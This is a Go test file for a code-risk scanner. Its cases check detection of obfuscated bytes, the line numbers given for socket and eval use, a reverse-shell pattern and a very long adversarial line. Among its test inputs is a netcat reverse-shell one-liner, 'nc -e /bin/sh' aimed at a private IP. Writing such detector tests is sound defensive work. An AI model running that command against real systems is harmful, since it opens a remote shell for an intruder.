package risk

import (
	"strings"
	"testing"
)

// Inputs YAML cannot carry (invalid UTF-8, NUL bytes).
func TestRawBytes(t *testing.T) {
	cases := []struct {
		name, lang, code string
		id               string
	}{
		{"invalid utf8", "python", "print('\xff\xfe')", "obfuscation.invalid_utf8"},
		{"nul byte", "bash", "echo a\x00b", "obfuscation.control_char"},
		{"escape sequence", "javascript", "console.log('\x1b[2J')", "obfuscation.control_char"},
		{"c1 control", "python", "x = 1 \u0085", "obfuscation.control_char"},
		{"bom mid file", "javascript", "let a = 1;\ufefflet b = 2;", "obfuscation.invisible_char"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a, err := Assess(tc.code, tc.lang)
			if err != nil {
				t.Fatal(err)
			}
			if !hasPattern(a, tc.id) || a.ProvenSafe {
				t.Fatalf("want %s, got %+v", tc.id, a)
			}
			checkInvariants(t, tc.code, a)
		})
	}
}

func TestLineNumbers(t *testing.T) {
	code := "print(1)\n\n# comment\nimport socket\nx = '''\n\n'''\neval(x)\n"
	a, _ := Assess(code, "python")
	want := map[string]int{"python.net.socket": 4, "python.eval.exec": 8}
	for _, p := range a.Patterns {
		if l, ok := want[p.ID]; ok && p.Line != l {
			t.Errorf("%s on line %d, want %d", p.ID, p.Line, l)
		}
		delete(want, p.ID)
	}
	if len(want) > 0 {
		t.Errorf("missing %v in %v", want, a.Patterns)
	}
}

func TestWordNeedles(t *testing.T) {
	// "nc " inside "func " or "async " must not wake the reverse-shell regex
	// up, but a real "nc -e" must.
	a, _ := Assess("async function f() { return 1 }", "javascript")
	if hasPattern(a, "js.shell.reverse_shell") {
		t.Fatal("false positive")
	}
	a, _ = Assess("nc -e /bin/sh 10.0.0.1 1", "bash")
	if !hasPattern(a, "bash.net.reverse_shell") {
		t.Fatalf("missed: %v", a.Patterns)
	}
}

func TestLongAdversarialLine(t *testing.T) {
	code := strings.Repeat("os.system(x); ", 20000) // one 280 KB line full of needles
	a, err := Assess(code, "python")
	if err != nil {
		t.Fatal(err)
	}
	if !hasPattern(a, "obfuscation.long_line") || !hasPattern(a, "python.process.os_system") {
		t.Fatalf("%v", a.Patterns)
	}
	checkInvariants(t, code, a)
}
